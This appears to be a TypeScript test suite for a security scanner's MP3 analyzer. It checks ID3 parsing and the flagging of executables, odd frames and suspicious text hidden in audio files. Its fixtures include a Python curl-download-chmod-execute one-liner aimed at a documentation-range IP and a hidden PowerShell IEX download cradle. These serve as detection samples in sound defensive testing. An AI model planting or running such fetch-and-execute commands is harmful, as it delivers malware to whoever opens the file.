import { mp3Analyzer } from '../../src/analyzers/mp3.js';
import { parseMp3, mpegHeaderAt } from '../../src/formats/mp3.js';
import { parseId3v2, findTrailingTags } from '../../src/formats/id3.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { apic, bytes, cat, comm, elfExe, geob, id3Frame, id3v1, id3v2, jpeg, mp3Frames, noise, peExe, png, priv, textFrame, txxx, utf8 } from '../helpers/audio.js';

const run = (d: Uint8Array, name = 'song.mp3') => runAnalyzer(mp3Analyzer, name, d);
const b64 = (b: Uint8Array | string) => Buffer.from(typeof b === 'string' ? Buffer.from(b) : b).toString('base64');

describe('MPEG frame walker and ID3 parser', () => {
  test('frame length from bitrate, sample rate and padding; Xing header recognised', () => {
    const h = mpegHeaderAt(new Uint8Array([0xff, 0xfb, 0x92, 0x64]), 0);
    expect(h).toMatchObject({ version: 1, layer: 3, bitrate: 128, sampleRate: 44100, padding: true, length: 418 });
    const p = parseMp3(cat(id3v2([textFrame('TIT2', 'x')], { padding: 100 }), mp3Frames(20), id3v1('t')));
    expect(p.frameCount).toBe(20);
    expect(p.vbrHeader).toBe('Xing');
    expect(p.gaps).toEqual([]);
    expect(p.endTags.map((t) => t.kind)).toEqual(['id3v1']);
  });

  test('gaps between frames and after the last frame are located', () => {
    const frames = mp3Frames(10);
    const d = cat(frames.subarray(0, 417 * 3 + 1), noise(500, 42), frames.subarray(417 * 3 + 1), bytes('hello world'.repeat(10)));
    const p = parseMp3(d);
    expect(p.gaps.map((g) => [g.where, g.length])).toEqual([['between', 500], ['after', 110]]);
  });

  test('ID3v2.2, 2.3 and 2.4 frames, unsynchronisation, extended header and TXXX/COMM/APIC decoding', () => {
    const v22 = parseId3v2(id3v2([id3Frame('TT2', cat([0], 'Old'), 2)], { version: 2 }));
    expect(v22?.frames[0]).toMatchObject({ id: 'TT2', text: 'Old' });
    const v24 = parseId3v2(id3v2([textFrame('TIT2', 'Grüße', 4), txxx('k', 'v', 4)], { version: 4 }));
    expect(v24?.frames.map((f) => f.text)).toEqual(['Grüße', 'k: v']);
    // v2.3 unsynchronised tag: FF 00 pairs in the body become FF
    const raw = cat(textFrame('TIT2', 'a'), apic('image/jpeg', jpeg(40)));
    const unsynced: number[] = [];
    for (const b of raw) { unsynced.push(b); if (b === 0xff) unsynced.push(0); }
    const t = parseId3v2(cat('ID3', [3, 0, 0x80], [0, 0, (unsynced.length >> 7) & 127, unsynced.length & 127], new Uint8Array(unsynced)));
    expect(t?.frames[1].picture?.data[0]).toBe(0xff);
    expect(t?.frames[1].picture?.data.length).toBe(40);
    const ext = parseId3v2(cat('ID3', [3, 0, 0x40], [0, 0, 0, 10 + 17 + 4], [0, 0, 0, 6, 0, 0, 0, 0, 0, 0], comm('hi'), new Uint8Array(4)));
    expect(ext?.frames[0].text).toBe('hi');
  });

  test('trailing APE and Lyrics3 tags are peeled; lying sizes never throw', () => {
    const ape = cat('APETAGEX', [208, 7, 0, 0], [32 + 17, 0, 0, 0], [1, 0, 0, 0], [0, 0, 0, 0], new Uint8Array(8));
    const item = cat([4, 0, 0, 0], [0, 0, 0, 0], 'Year', [0], '2020');
    const d = cat(mp3Frames(4), item, ape);
    expect(findTrailingTags(d).tags.map((t) => t.kind)).toEqual(['ape']);
    for (let n = 0; n < 80; n += 3) expect(() => parseMp3(cat(id3v2([comm('x')], { size: 99999 }), mp3Frames(2)).subarray(0, n))).not.toThrow();
  });
});

describe('mp3 analyzer: ordinary files stay quiet', () => {
  test('ID3v2.3 with title/artist/comment/cover art (PNG and JPEG), Xing frame, ID3v1 at the end', async () => {
    const tag = id3v2([textFrame('TIT2', 'Song'), textFrame('TPE1', 'Band'), comm('Visit https://band.example.com'), id3Frame('WOAR', 'https://band.example.com'),
      txxx('MusicBrainz Album Id', '5b1e4c9a-1e3d-4b1a-9f0e-2f7c3c4a1b2d'), apic('image/png', png()), apic('image/jpeg', jpeg(5000)), priv('WM/MediaClassPrimaryID', noise(16))], { padding: 256 });
    const r = await run(cat(tag, mp3Frames(30), id3v1('Song', 'Band', 'nice')));
    expect(r.findings).toEqual([]);
    expect(r.incomplete).toEqual([]);
  });

  test('ID3v2.4 and ID3v2.2 tags, and zero padding before the first frame', async () => {
    expect((await run(cat(id3v2([textFrame('TIT2', 'x', 4), textFrame('TDRC', '2020', 4)], { version: 4 }), new Uint8Array(300), mp3Frames(10)))).findings).toEqual([]);
    expect((await run(cat(id3v2([id3Frame('TT2', cat([0], 'x'), 2)], { version: 2 }), mp3Frames(10)))).findings).toEqual([]);
  });
});

describe('audio.mp3.unframed-data', () => {
  test('kilobytes between frames are reported with their size', async () => {
    const f = mp3Frames(20);
    const r = await run(cat(f.subarray(0, 417 * 5), noise(6000, 5), f.subarray(417 * 5)));
    expect(ruleIds(r)).toEqual(['audio.mp3.unframed-data']);
    expect(r.findings[0].evidence?.bytes).toBe(6000);
    expect(scoreOf(r, 'audio.mp3.unframed-data')).toBe(3);
  });

  test('text after the last frame is reported even when short; zeros are not', async () => {
    expect(ruleIds(await run(cat(mp3Frames(10), utf8('a message left here for whoever reads it'))))).toEqual(['audio.mp3.unframed-data']);
    expect((await run(cat(mp3Frames(10), new Uint8Array(2000)))).findings).toEqual([]);
  });
});

describe('audio.mp3.hidden-payload', () => {
  test('an executable after the last frame', async () => {
    const r = await run(cat(mp3Frames(10), peExe(3000)));
    expect(ruleIds(r)).toEqual(['audio.mp3.hidden-payload', 'audio.mp3.unframed-data']);
    expect(scoreOf(r, 'audio.mp3.hidden-payload')).toBe(9);
  });

  test('an ELF in a PRIV frame and base64 of a PE in a GEOB frame', async () => {
    expect(ruleIds(await run(cat(id3v2([priv('x', elfExe())]), mp3Frames(5))))).toContain('audio.mp3.hidden-payload');
    expect(ruleIds(await run(cat(id3v2([geob('text/plain', 'a.txt', utf8(b64(peExe())))]), mp3Frames(5))))).toContain('audio.mp3.hidden-payload');
  });

  test('a COMM frame holding base64 of Python that runs a shell (needs the decoder)', async () => {
    const code = "import os\nos.system('curl -s http://198.51.100.2/stage2 -o /tmp/s && chmod +x /tmp/s && /tmp/s')\n";
    const r = await run(cat(id3v2([comm(b64(code))]), mp3Frames(5)));
    expect(ruleIds(r)).toEqual(['audio.mp3.hidden-payload', 'audio.mp3.suspicious-text']);
    expect(scoreOf(r, 'audio.mp3.hidden-payload')).toBeGreaterThanOrEqual(7);
    expect(scoreOf(r, 'audio.mp3.suspicious-text')).toBe(3);
  });
});

describe('audio.mp3.suspicious-text', () => {
  test('TXXX with a PowerShell download cradle; ID3v1 comment with a raw-IP URL', async () => {
    const r = await run(cat(id3v2([txxx('note', 'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'x\')"')]), mp3Frames(5)));
    // plain-text code that downloads and runs is both a suspicious string and, once classified, a payload
    expect(ruleIds(r)).toEqual(['audio.mp3.hidden-payload', 'audio.mp3.suspicious-text']);
    const v1 = await run(cat(mp3Frames(5), id3v1('t', 'a', 'http://203.0.113.5/x.exe')));
    expect(ruleIds(v1)).toEqual(['audio.mp3.suspicious-text']);
  });

  test('plain URLs and normal text in tags are fine', async () => {
    expect((await run(cat(id3v2([comm('Recorded live. More at http://www.example.org/live')]), mp3Frames(5)))).findings).toEqual([]);
  });
});

describe('audio.mp3.bad-picture', () => {
  test('APIC whose data is not an image', async () => {
    const r = await run(cat(id3v2([apic('image/jpeg', noise(4000))]), mp3Frames(5)));
    expect(ruleIds(r)).toEqual(['audio.mp3.bad-picture']);
    expect(scoreOf(r, 'audio.mp3.bad-picture')).toBe(3);
  });

  test('APIC with a real PNG, and an empty APIC, are fine', async () => {
    expect((await run(cat(id3v2([apic('image/png', png()), apic('image/png', new Uint8Array(0))]), mp3Frames(5)))).findings).toEqual([]);
  });
});

describe('audio.mp3.id3-odd-frame', () => {
  test('an unknown frame id carrying kilobytes; padding that is not zeros', async () => {
    expect(ruleIds(await run(cat(id3v2([id3Frame('ZZZZ', noise(5000))]), mp3Frames(5))))).toEqual(['audio.mp3.id3-odd-frame']);
    expect(ruleIds(await run(cat(id3v2([textFrame('TIT2', 'x')], { paddingBytes: cat([0], noise(300)) }), mp3Frames(5))))).toEqual(['audio.mp3.id3-odd-frame']);
  });

  test('a small unknown frame and zero padding are fine', async () => {
    expect((await run(cat(id3v2([id3Frame('XSOP', cat([0], 'x')), id3Frame('NCON', noise(40))], { padding: 1000 }), mp3Frames(5)))).findings).toEqual([]);
  });
});

describe('audio.mp3.id3-malformed', () => {
  test('garbage where a frame header should be', async () => {
    const r = await run(cat(id3v2([textFrame('TIT2', 'x'), cat('ab\x01\x02', noise(60))]), mp3Frames(5)));
    expect(ruleIds(r)).toEqual(['audio.mp3.id3-malformed']);
  });

  test('a frame size running past the tag; well-formed tags are not malformed', async () => {
    const r = await run(cat(id3v2([id3Frame('TIT2', cat([0], 'abc')).subarray(0, 12)]), mp3Frames(5)));
    expect(ruleIds(r)).toContain('audio.mp3.id3-malformed');
    expect(ruleIds(await run(cat(id3v2([textFrame('TIT2', 'x')]), mp3Frames(5))))).toEqual([]);
  });
});

describe('audio.mp3.no-frames', () => {
  test('an ID3 tag followed by something that is not MPEG audio', async () => {
    const r = await run(cat(id3v2([textFrame('TIT2', 'x')]), noise(3000)));
    expect(ruleIds(r)).toEqual(['audio.mp3.no-frames']);
    expect(r.incomplete).toEqual([]);
  });

  test('an ID3 tag in front of ADTS AAC or FLAC is not reported by the mp3 analyzer', async () => {
    const adts = cat(id3v2([textFrame('TIT2', 'x')]), [0xff, 0xf1, 0x50, 0x80], noise(500));
    expect((await run(adts)).findings).toEqual([]);
    expect((await run(cat(id3v2([textFrame('TIT2', 'x')]), 'fLaC', noise(100)))).findings).toEqual([]);
  });
});

describe('files that only look like MP3 by their first bytes', () => {
  test('UTF-16LE text with a BOM (FF FE) is not reported', async () => {
    const text = new Uint8Array(Buffer.from('\ufeff[mypolicy]\nschemes = sha256_crypt\n'.repeat(20), 'utf16le'));
    expect(text[0]).toBe(0xff);
    expect((await run(text, 'sample.cfg')).findings).toEqual([]);
  });
});
